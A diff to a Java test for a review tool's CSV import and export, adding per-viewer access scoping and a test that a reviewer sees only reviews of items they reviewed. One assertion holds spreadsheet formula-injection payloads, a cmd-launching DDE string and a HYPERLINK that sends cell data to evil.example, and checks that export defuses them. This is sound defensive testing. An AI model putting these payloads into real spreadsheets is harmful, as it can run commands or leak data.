@@ -1,5 +1,6 @@
 package dev.concord.service;
 
+import dev.concord.review.Viewer;
 import dev.concord.review.Review;
 import dev.concord.review.ReviewDraft;
 import dev.concord.review.Reviewer;
@@ -20,6 +21,7 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 /** Reviews CSV import (good rows land, bad rows are named) and export (same layout, atomic). */
 class ReviewCsvServiceTest {
+    private static final Viewer LEAD = new Viewer("lead", true);
     @TempDir
     Path dir;
     private ReviewFixture f;
@@ -53,7 +55,7 @@ class ReviewCsvServiceTest {
         assertThat(r.reviewersCreated()).containsExactly("Ann", "Bob");
         Reviewer ann = named("Ann");
         Reviewer bob = named("Bob");
-        assertThat(f.reviews.reveal(bob.id(), single(1))).extracting(Review::label).containsExactly("wrong", "good");
+        assertThat(f.reviews.reveal(Viewer.of(bob), single(1))).extracting(Review::label).containsExactly("wrong", "good");
         assertThat(f.reviews.myReview(bob.id(), single(1)).orElseThrow().correction()).isEqualTo("The answer is 42, not 41.");
         Review chain = f.reviews.myReview(ann.id(), CHAIN).orElseThrow();
         assertThat(chain.best()).isEqualTo(1);
@@ -160,7 +162,7 @@ class ReviewCsvServiceTest {
         f.reviews.submit(ann.id(), single(2), new ReviewDraft("wrong", payloads[1], null, null, false, null));
         f.reviews.submit(ann.id(), single(3), new ReviewDraft("wrong", payloads[2], null, null, false, null));
         StringWriter out = new StringWriter();
-        csv.export(out);
+        csv.export(LEAD, out);
         assertThat(out.toString()).contains("\"'=Ann\"", "\"'@SUM(1+9)*cmd|' /C calc'!A0\"",
                 "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"").doesNotContain(",=", ",@", ",+", ",-");
 
@@ -170,7 +172,7 @@ class ReviewCsvServiceTest {
         assertThat(r.badRows()).isEmpty();
         assertThat(r.reviewersCreated()).containsExactly("=Ann");
         StringWriter back = new StringWriter();
-        new ReviewCsvService(other.db).export(back);
+        new ReviewCsvService(other.db).export(LEAD, back);
         assertThat(back.toString()).isEqualTo(out.toString());
     }
 
@@ -183,7 +185,7 @@ class ReviewCsvServiceTest {
         f.reviews.submit(ann.id(), CHAIN, new ReviewDraft("wrong", null, null, 0, true, null));
         f.reviews.revise(ann.id(), CHAIN, ann.id(), new ReviewDraft("unsafe", null, null, 0, true, null));
         StringWriter out = new StringWriter();
-        assertThat(csv.export(out)).isEqualTo(3);
+        assertThat(csv.export(LEAD, out)).isEqualTo(3);
         assertThat(out.toString()).isEqualTo("item,reviewer,label,correction,best,worst\n"
                 + "fi-g1,Ann,wrong,\"Line one\nsaid \"\"two\"\"\",,\n"
                 + "fi-c1,Ann,unsafe,,none,1\n"
@@ -191,13 +193,32 @@ class ReviewCsvServiceTest {
 
         ReviewFixture other = new ReviewFixture(Files.createDirectories(dir.resolve("other")), 3);
         Path file = dir.resolve("out/reviews.csv");
-        csv.export(file);
+        csv.export(LEAD, file);
         ReviewImportReport r = new ReviewCsvService(other.db).importFile(file);
         assertThat(r.badRows()).isEmpty();
         assertThat(r.added()).isEqualTo(3);
         StringWriter back = new StringWriter();
-        new ReviewCsvService(other.db).export(back);
+        new ReviewCsvService(other.db).export(LEAD, back);
         assertThat(back.toString()).isEqualTo(out.toString());
+    }
+
+    @Test
+    void aReviewersExportHoldsOnlyTheReviewsOfItemsTheyReviewedThemselves() throws Exception {
+        Reviewer ann = f.reviewer("Ann");
+        Reviewer bob = f.reviewer("Bob");
+        Reviewer cid = f.reviewer("Cid");
+        f.reviews.submit(ann.id(), single(1), new ReviewDraft("wrong", "Ann's secret fix", null, null, false, null));
+        f.reviews.submit(ann.id(), single(2), ReviewDraft.labelOnly("unsafe"));
+        f.reviews.submit(bob.id(), single(2), ReviewDraft.labelOnly("good"));
+        StringWriter asBob = new StringWriter();
+        assertThat(csv.export(Viewer.of(bob), asBob)).isEqualTo(2);
+        assertThat(asBob.toString()).isEqualTo("item,reviewer,label,correction,best,worst\n"
+                + "fi-g2,Ann,unsafe,,,\n"
+                + "fi-g2,Bob,good,,,\n");
+        StringWriter asCid = new StringWriter();
+        assertThat(csv.export(Viewer.of(cid), asCid)).isZero();
+        assertThat(asCid.toString()).isEqualTo("item,reviewer,label,correction,best,worst\n");
+        assertThat(csv.export(Viewer.of(f.lead("Lea")), new StringWriter())).isEqualTo(3);
     }
 
     @Test
@@ -206,7 +227,7 @@ class ReviewCsvServiceTest {
         Files.createDirectories(target.getParent());
         Files.writeString(target, "old content");
         f.reviews.submit(f.reviewer("Ann").id(), single(1), ReviewDraft.labelOnly("good"));
-        csv.export(target);
+        csv.export(LEAD, target);
         assertThat(Files.readString(target)).startsWith("item,reviewer,label").contains("fi-g1,Ann,good");
         try (var files = Files.list(target.getParent())) {
             assertThat(files).containsExactly(target);
